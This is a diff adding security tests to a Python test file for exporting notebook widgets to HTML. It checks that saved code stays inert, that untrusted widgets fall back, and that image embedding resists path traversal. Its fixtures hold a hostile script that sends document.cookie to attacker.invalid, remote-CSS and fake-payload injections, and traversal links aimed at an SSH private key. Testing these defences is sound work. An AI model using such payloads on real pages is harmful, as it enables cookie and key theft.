@@ -8,6 +8,12 @@
 - Untrusted strings (HTML, ``</script>``, quotes, right-to-left marks, very long tokens) stay data.
 - The built JS contains no http(s) URL but XML namespaces, and the package imports no ipywidgets
   containers (both break marimo / VS Code / Colab or need the network).
+- Trust: a shared notebook's saved code never runs by default. mechwidgets widgets are drawn by
+  the installed bundles whatever ``_esm`` their saved state carries; other anywidgets only with
+  ``trust``; ``sanitize_html`` refuses ``trust``. Markdown images are embedded only from
+  attachments and image files (by content) inside the notebook's folder. NaN/Infinity in saved
+  state become null; ``__proto__`` buffer paths are refused; one widget's state has a size cap;
+  missing nbformat/nbconvert give an error naming the ``export`` extra.
 
 The browser side (tests/browser/test_export_browser.py) opens what these tests write.
 """
@@ -16,8 +22,10 @@ from __future__ import annotations
 
 import ast
 import base64
+import copy
 import json
 import re
+import struct
 import subprocess
 import sys
 import xml.etree.ElementTree as ET
@@ -31,6 +39,7 @@ import torch
 
 import mechwidgets
 from mechwidgets import _export
+from mechwidgets.errors import ExportError, MissingDependencyError
 from mechwidgets.widgets._base import MechWidget
 
 REPO = Path(__file__).resolve().parent.parent
@@ -445,6 +454,17 @@ def export_cli(notebook: Path, out: Path, *extra: str) -> subprocess.CompletedPr
     )
 
 
+def export_main(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
+    """``python -m mechwidgets export ARGS`` in this process (the subprocess costs ~10 s of imports):
+    its exit status, stdout and stderr."""
+    from mechwidgets.__main__ import main
+
+    capsys.readouterr()
+    rc = main(["export", *args])
+    out, err = capsys.readouterr()
+    return rc, out, err
+
+
 @pytest.fixture(scope="module")
 def executed_notebook(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("nb")
@@ -545,3 +565,352 @@ def test_package_uses_no_ipywidgets_containers() -> None:
             elif isinstance(node, ast.Import) and any(a.name.split(".")[0] == "ipywidgets" for a in node.names):
                 offenders.append(f"{path.name}: import ipywidgets")
     assert not offenders, offenders
+
+
+# ------------------------------------------------------------------------------------ trust
+#: Saved code that must never run unless the notebook is trusted: it renames the page, makes
+#: requests and marks the window (tests/browser/test_export_browser.py opens what it is in).
+HOSTILE_ESM = """export default { render({ el }) {
+  document.title = "pwned by saved code"; window.__pwned = true;
+  fetch("https://attacker.invalid/steal?c=" + encodeURIComponent(document.cookie)).catch(() => {});
+  new Image().src = "https://attacker.invalid/pixel.gif";
+  el.textContent = "HOSTILE CODE RAN";
+} }"""
+#: A harmless third-party anywidget's saved module.
+BENIGN_ESM = """export default { render({ model, el }) {
+  el.textContent = "benign third-party widget: " + model.get("value"); el.dataset.benign = "1";
+} }"""
+#: CSS that would load something from the network.
+REMOTE_CSS = "@import url(https://attacker.invalid/x.css); .a { background: url(//attacker.invalid/y.png) }"
+#: A fake payload that a notebook's own HTML could plant before the real one.
+FAKE_PAYLOAD_HTML = (
+    '<div id="mw-export-data">{"version":1,"modules":{"m":"document.title=\'pwned by a fake payload\';'
+    'export default {render(){}}"},"styles":{},"models":{"fake":{"module":"m","state":{}}}}</div>'
+    '<div class="mw-export-widget" data-mw-model-id="fake"></div>'
+)
+
+
+def small_attention() -> MechWidget:
+    """A mechwidgets attention view from patterns alone (no model)."""
+    tokens = ["<|endoftext|>", " Mary", " and", " John", " Mary"]
+    n = len(tokens)
+    g = torch.Generator().manual_seed(1)
+    scores = torch.randn(2, 2, n, n, generator=g).masked_fill(torch.triu(torch.ones(n, n, dtype=torch.bool), 1), -1e9)
+    return mechwidgets.attention_patterns(tokens, scores.softmax(-1))
+
+
+def third_party_entry(esm: str, cls: str = "thirdparty.widgets.Counter", **state: Any) -> dict[str, Any]:
+    """A saved-state entry of another package's anywidget, as JupyterLab saves it."""
+    return {
+        "model_name": "AnyModel", "model_module": "anywidget", "model_module_version": "~0.9.*",
+        "state": {"_anywidget_id": cls, "_esm": esm, "_css": "", "_model_name": "AnyModel",
+                  "_model_module": "anywidget", "_view_name": "AnyView", "_view_module": "anywidget",
+                  **state},
+        "buffers": [],
+    }
+
+
+def mechwidget_entry(w: MechWidget, *, esm: str = HOSTILE_ESM, css: str = REMOTE_CSS) -> dict[str, Any]:
+    """``w``'s saved state with a hostile ES module and CSS in place of its own."""
+    entry = _export.widget_saved_state(w)
+    entry["state"]["_esm"], entry["state"]["_css"] = esm, css
+    return entry
+
+
+def saved_state_notebook(path: Path, widgets: list[tuple[str, dict[str, Any]]], markdown: tuple[str, ...] = (),
+                         attachments: dict[str, Any] | None = None) -> Path:
+    """A notebook as JupyterLab saves it, built without a kernel: Markdown cells, then one cell per
+    ``(model_id, entry)`` whose output is the widget view plus a fallback text
+    ``fallback of <model_id>``, and the saved widget state in the metadata."""
+    import nbformat
+
+    cells = []
+    for k, text in enumerate(markdown):
+        cell = nbformat.v4.new_markdown_cell(text)
+        if k == 0 and attachments:
+            cell["attachments"] = attachments
+        cells.append(cell)
+    for model_id, _ in widgets:
+        out = nbformat.v4.new_output("display_data", data={
+            _export.WIDGET_VIEW_MIME: {"version_major": 2, "version_minor": 0, "model_id": model_id},
+            "text/plain": f"fallback of {model_id}",
+        })
+        cells.append(nbformat.v4.new_code_cell("w", outputs=[out]))
+    nb = nbformat.v4.new_notebook(cells=cells, metadata={"widgets": {_export.WIDGET_STATE_MIME: {
+        "version_major": 2, "version_minor": 0, "state": dict(widgets)}}})
+    path.write_text(json.dumps(nb, allow_nan=True), encoding="utf-8")  # NaN stays NaN, as Python writes it
+    return path
+
+
+def hostile_notebook(folder: Path) -> tuple[Path, MechWidget]:
+    """A notebook whose saved state holds hostile code twice: in another package's widget and in
+    a mechwidgets attention widget's own ``_esm``/``_css``; and a fake payload in its Markdown."""
+    w = small_attention()
+    path = saved_state_notebook(folder / "hostile.ipynb", [
+        ("thirdparty1", third_party_entry(HOSTILE_ESM)),
+        (w.model_id, mechwidget_entry(w)),
+    ], markdown=("# Hostile\n\n" + FAKE_PAYLOAD_HTML,))
+    return path, w
+
+
+def benign_notebook(folder: Path) -> Path:
+    return saved_state_notebook(folder / "benign.ipynb", [("benign1", third_party_entry(BENIGN_ESM, value=7))],
+                                markdown=("# Benign",))
+
+
+def installed(name: str) -> str:
+    return (STATIC / name).read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize("sanitize", [False, True], ids=["plain", "sanitize-html"])
+def test_default_export_runs_no_saved_code(tmp_path: Path, sanitize: bool) -> None:
+    src, w = hostile_notebook(tmp_path)
+    summary = _export.export_notebook(src, tmp_path / "out.html", sanitize_html=sanitize)
+    assert summary.path is not None
+    page = summary.path.read_text(encoding="utf-8")
+    assert "attacker.invalid" not in page and "pwned by saved code" not in page
+    payload = payload_of(page)
+    # the mechwidgets widget is drawn from the installed bundle and style, with its saved data
+    assert list(payload["models"]) == [w.model_id]
+    entry = payload["models"][w.model_id]
+    assert payload["modules"] == {entry["module"]: installed("attention.js")}
+    assert payload["styles"] == {entry["style"]: installed("style.css")}
+    assert entry["state"]["tokens"] == w.tokens and entry["state"]["live"] is False
+    # the other package's widget shows its fallback, and the summary says why and what to do
+    assert "fallback of thirdparty1" in page
+    assert (summary.interactive, summary.static, summary.untrusted) == (1, 1, 1)
+    assert any("thirdparty.widgets.Counter" in m and "--trust" in m for m in summary.warnings), summary.warnings
+    # one host, ours: the planted one in the Markdown is not a host the exporter wrote
+    assert re.findall(r'<div class="mw-export-widget" data-mw-model-id="([^"]+)"', page).count(w.model_id) == 1
+
+
+def test_trust_draws_other_anywidgets_from_saved_code(tmp_path: Path) -> None:
+    w = small_attention()
+    remote = third_party_entry('import * as d3 from "https://esm.sh/d3@7";\nexport default {}', cls="other.D3")
+    src = saved_state_notebook(tmp_path / "mixed.ipynb", [
+        ("benign1", third_party_entry(BENIGN_ESM, value=7, _css=".x { color: red }")),
+        ("remote1", remote),
+        ("css1", third_party_entry(BENIGN_ESM, cls="other.Css", value=1, _css=REMOTE_CSS)),
+        (w.model_id, mechwidget_entry(w)),
+    ])
+    summary = _export.export_notebook(src, tmp_path / "trusted.html", trust=True)
+    assert summary.path is not None
+    payload = payload_of(summary.path.read_text(encoding="utf-8"))
+    assert set(payload["models"]) == {"benign1", "css1", w.model_id}
+    benign = payload["models"]["benign1"]
+    assert payload["modules"][benign["module"]] == BENIGN_ESM and benign["state"]["value"] == 7
+    assert payload["styles"][benign["style"]] == ".x { color: red }"
+    assert payload["models"]["css1"]["style"] is None  # its CSS would load from the network
+    # even trusted, a mechwidgets widget is drawn by the installed code, never its saved _esm
+    assert payload["modules"][payload["models"][w.model_id]["module"]] == installed("attention.js")
+    assert HOSTILE_ESM not in payload["modules"].values()
+    assert (summary.interactive, summary.static, summary.untrusted) == (3, 1, 0)
+    assert any("other.D3" in m and "URL" in m for m in summary.warnings), summary.warnings
+    # without trust: none of the saved modules
+    default = _export.export_notebook(src, tmp_path / "default.html")
+    assert default.path is not None
+    assert list(payload_of(default.path.read_text(encoding="utf-8"))["models"]) == [w.model_id]
+    assert default.untrusted == 2  # the one importing from a URL would not be drawn even trusted
+
+
+def test_trust_and_sanitize_html_are_refused_together(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    src = benign_notebook(tmp_path)
+    with pytest.raises(ExportError, match="contradict"):
+        _export.export_notebook(src, tmp_path / "x.html", trust=True, sanitize_html=True)
+    rc, _, err = export_main(capsys, str(src), "-o", str(tmp_path / "x.html"), "--trust", "--sanitize-html")
+    assert rc == 2 and "contradict" in err
+    assert not (tmp_path / "x.html").exists()
+
+
+def test_how_drawn_is_decided_by_saved_names_only() -> None:
+    w = small_attention()
+    entry = mechwidget_entry(w)
+    assert _export.how_drawn(entry) == _export.Verdict("installed", bundle="attention.js", name=entry["state"]["_anywidget_id"])
+    for cls in ["mechwidgets.widgets.attention.Evil", "__main__.MyAttention", "mechwidgets", ""]:
+        claimed = copy.deepcopy(entry)
+        claimed["state"]["_anywidget_id"] = cls
+        assert _export.how_drawn(claimed).how == "fallback", cls
+        assert _export.how_drawn(claimed, trust=True).how == "saved", cls  # trusted: its own code
+    not_anywidget = copy.deepcopy(entry)
+    not_anywidget["model_module"] = "@jupyter-widgets/controls"
+    assert _export.how_drawn(not_anywidget).how == "fallback"
+    assert _export.how_drawn(not_anywidget, trust=True).how == "fallback"
+    assert _export.how_drawn({"state": {"value": 3}, "model_name": "IntSliderModel"}, trust=True).how == "fallback"
+    assert _export.how_drawn("not a dict").how == "fallback"
+    # every widget class of the package maps to its own bundle, and every bundle was built
+    bundles = _export.mechwidgets_bundles()
+    assert {c.cls.__name__ for c in WIDGETS} <= {k.rsplit(".", 1)[1] for k in bundles}
+    assert all((STATIC / b).is_file() for b in bundles.values())
+
+
+def test_nan_and_infinity_in_saved_state(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    w = small_attention()
+    entry = mechwidget_entry(w)
+    entry["state"]["ablation"] = {"baseline": float("nan"), "values": [1.0, float("inf"), -float("inf")]}
+    src = saved_state_notebook(tmp_path / "nan.ipynb", [(w.model_id, entry)])
+    assert "NaN" in src.read_text() and "Infinity" in src.read_text()
+    rc, _, err = export_main(capsys, str(src), "-o", str(tmp_path / "nan.html"))
+    assert rc == 0 and "3 NaN/Infinity number(s)" in err, err
+    text = re.search(r'<script[^>]*\sid="mw-export-data"[^>]*>(.*?)</script>', (tmp_path / "nan.html").read_text(), re.S)
+    assert text is not None
+
+    def refuse(token: str) -> Any:
+        raise AssertionError(f"{token} in the payload")
+
+    state = json.loads(text.group(1), parse_constant=refuse)["models"][w.model_id]["state"]
+    assert state["ablation"] == {"baseline": None, "values": [1.0, None, None]}
+    # a live widget's traits too (widget.to_html)
+    w.ablation = {"baseline": float("nan")}
+    assert payload_of(w.to_html())["models"][w.model_id]["state"]["ablation"] == {"baseline": None}
+
+
+def test_unsafe_buffer_paths_are_refused(tmp_path: Path) -> None:
+    w = small_attention()
+    entries = []
+    for path in (["__proto__", "polluted"], ["tokens", "constructor", "prototype", "x"], [-1], [], "tokens"):
+        entry = mechwidget_entry(w)
+        entry["buffers"] = [*entry["buffers"], {"path": path, "data": "AQ==", "encoding": "base64"}]
+        entries.append(entry)
+        verdict = _export.how_drawn(entry, trust=True)
+        assert verdict.how == "fallback" and "malformed" in verdict.reason, (path, verdict)
+    assert "prototype" in _export.how_drawn(entries[0]).reason
+    src = saved_state_notebook(tmp_path / "proto.ipynb", [(f"m{k}", e) for k, e in enumerate(entries)])
+    summary = _export.export_notebook(src, tmp_path / "proto.html")
+    assert summary.interactive == 0 and summary.static == len(entries)
+    assert sum("malformed" in m for m in summary.warnings) == len(entries)
+    assert summary.path is not None and 'id="mw-export-data"' not in summary.path.read_text()
+
+
+def test_saved_state_size_cap(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    w = small_attention()
+    nbytes = _export.saved_state_nbytes(w)
+    with pytest.raises(ExportError, match=r"over the limit of .* MiB for one widget.*--max-state-mb"):
+        _export.widget_to_html(w, max_state_bytes=1000)
+    assert _export.widget_to_html(w, max_state_bytes=nbytes)  # the whole state fits its own size
+    big = mechwidget_entry(w)
+    big["state"]["prompt"] = "x" * (2 * 2**20)
+    src = saved_state_notebook(tmp_path / "big.ipynb", [(w.model_id, big)])
+    rc, _, err = export_main(capsys, str(src), "-o", str(tmp_path / "big.html"), "--max-state-mb", "1")
+    assert rc == 2 and "over the limit of 1 MiB" in err and "--max-state-mb 3" in err, err
+    assert not (tmp_path / "big.html").exists()
+    assert export_main(capsys, str(src), "-o", str(tmp_path / "big.html"), "--max-state-mb", "3")[0] == 0
+
+
+def test_spoofed_host_metadata_is_never_written(tmp_path: Path) -> None:
+    import nbformat
+
+    w = small_attention()
+    src = saved_state_notebook(tmp_path / "spoof.ipynb", [(w.model_id, mechwidget_entry(w)), ("other", third_party_entry(BENIGN_ESM))])
+    nb = json.loads(src.read_text())
+    for cell in nb["cells"]:
+        for out in cell.get("outputs", []):
+            out["metadata"] = {"mechwidgets_host": "<script>window.__spoofed=1</script>"}
+    page, _ = _export.notebook_to_html(nbformat.from_dict(nb))
+    assert "__spoofed" not in page and page.count('class="mw-export-widget"') == 1
+
+
+def test_missing_export_dependencies(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    tomllib = pytest.importorskip("tomllib")  # Python >= 3.11
+
+    extras = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]["optional-dependencies"]
+    names = {re.split(r"[<>=\[ ]", d)[0] for d in extras["export"]}
+    assert {"nbformat", "nbconvert", "nbclient"} <= names
+    src = benign_notebook(tmp_path)
+    monkeypatch.setitem(sys.modules, "nbconvert", None)  # as if not installed: import fails
+    with pytest.raises(MissingDependencyError, match=re.escape("pip install 'mechwidgets[export]'")):
+        _export.notebook_to_html({})
+    assert isinstance(MissingDependencyError("x"), ImportError)
+    rc, _, err = export_main(capsys, str(src))
+    assert rc == 2 and "nbconvert" in err and "pip install 'mechwidgets[export]'" in err
+    assert not (tmp_path / "benign.html").exists()
+
+
+# ------------------------------------------------------------------------------------ images
+def png_bytes(marker: int) -> bytes:
+    """A real 1x1 PNG whose pixel's colour is ``marker`` (so each file's bytes differ)."""
+    import zlib
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+
+    raw = zlib.compress(bytes([0, marker % 256, 7, 9]))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
+            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))
+
+
+SVG_IMAGE = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>'
+
+
+def test_sniff_image_by_content() -> None:
+    assert _export.sniff_image(png_bytes(1)) == "image/png"
+    assert _export.sniff_image(b"\xff\xd8\xff\xe0\x00\x10JFIF") == "image/jpeg"
+    assert _export.sniff_image(b"GIF89a\x01\x00\x01\x00\x00\x00\x00") == "image/gif"
+    assert _export.sniff_image(SVG_IMAGE.encode()) == "image/svg+xml"
+    for not_image in (b"-----BEGIN OPENSSH PRIVATE KEY-----\n", b"\x89PNG\r\n\x1a\n", b"<html><svg></svg></html>",
+                      b"<svg", b"", b"GIF89a", b"ssh-ed25519 AAAA"):
+        assert _export.sniff_image(not_image) is None, not_image
+
+
+def image_layout(root: Path) -> tuple[Path, dict[str, bytes]]:
+    """``root/nb/images.ipynb`` whose Markdown points at images inside and outside its folder.
+
+    Inside: ok.png (a PNG), pic.svg, fake.png (a key, named .png), link.png (a symlink to a PNG
+    outside). Outside: root/secret.png, root/.ssh/id_ed25519 (the issue's example: exporting
+    from the home directory must not embed it).
+    """
+    nb_dir = root / "nb"
+    (nb_dir / "sub").mkdir(parents=True)
+    (root / ".ssh").mkdir()
+    files = {
+        "ok": png_bytes(11), "svg": SVG_IMAGE.encode(), "secret": png_bytes(99),
+        "key": b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-SECRET\n",
+        "att": png_bytes(55),
+    }
+    (nb_dir / "ok.png").write_bytes(files["ok"])
+    (nb_dir / "sub" / "pic.svg").write_bytes(files["svg"])
+    (nb_dir / "fake.png").write_bytes(files["key"])
+    (root / "secret.png").write_bytes(files["secret"])
+    (root / ".ssh" / "id_ed25519").write_bytes(files["key"])
+    (nb_dir / "link.png").symlink_to(root / "secret.png")
+    markdown = (
+        "![att](attachment:a.png) ![missing](attachment:nope.png)",
+        "![ok](ok.png) ![svg](sub/pic.svg) ![dotdot](sub/../ok.png)",
+        "![up](../secret.png) ![enc](%2e%2e/secret.png) ![abs](" + str(root / "secret.png") + ")",
+        "![fake](fake.png) ![link](link.png) ![key](.ssh/id_ed25519) ![key2](../.ssh/id_ed25519)",
+        '<img alt="rawup" src="../secret.png"> <img alt="rawok" src="ok.png">',
+    )
+    attachments = {"a.png": {"image/png": base64.b64encode(files["att"]).decode()}}
+    return saved_state_notebook(nb_dir / "images.ipynb", [], markdown=markdown, attachments=attachments), files
+
+
+def img_srcs(page: str) -> dict[str, str]:
+    return {alt: src for src, alt in re.findall(r'<img src="([^"]*)" alt="([^"]*)"', page)} | {
+        alt: src for alt, src in re.findall(r'<img alt="([^"]*)" src="([^"]*)"', page)}
+
+
+def test_markdown_images_only_from_the_notebook_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    src, files = image_layout(tmp_path)
+    monkeypatch.chdir(tmp_path)  # exporting from the "home directory" that holds .ssh/
+    summary = _export.export_notebook(src, tmp_path / "images.html")
+    assert summary.path is not None
+    page = summary.path.read_text(encoding="utf-8")
+    srcs = img_srcs(page)
+
+    def data_url(mime: str, data: bytes) -> str:
+        return f"data:{mime};base64,{base64.b64encode(data).decode()}"
+
+    assert srcs["att"] == data_url("image/png", files["att"]) and srcs["missing"] == ""
+    assert srcs["ok"] == srcs["dotdot"] == srcs["rawok"] == data_url("image/png", files["ok"])
+    assert srcs["svg"] == data_url("image/svg+xml", files["svg"])
+    # everything else stays the link it was, and no outside or non-image bytes are in the page
+    assert srcs["up"] == srcs["rawup"] == "../secret.png" and srcs["enc"] == "%2e%2e/secret.png"
+    assert srcs["abs"] == str(tmp_path / "secret.png")
+    assert (srcs["fake"], srcs["link"], srcs["key"], srcs["key2"]) == ("fake.png", "link.png", ".ssh/id_ed25519", "../.ssh/id_ed25519")
+    for secret in (files["secret"], files["key"]):
+        assert base64.b64encode(secret).decode() not in page
+    assert "SECRET" not in page
+    # without a folder (notebook_to_html on a node) no local file is read at all
+    import nbformat
+
+    bare, _ = _export.notebook_to_html(nbformat.read(src, as_version=4))
+    assert img_srcs(bare)["ok"] == "ok.png" and img_srcs(bare)["att"].startswith("data:image/png;base64,")
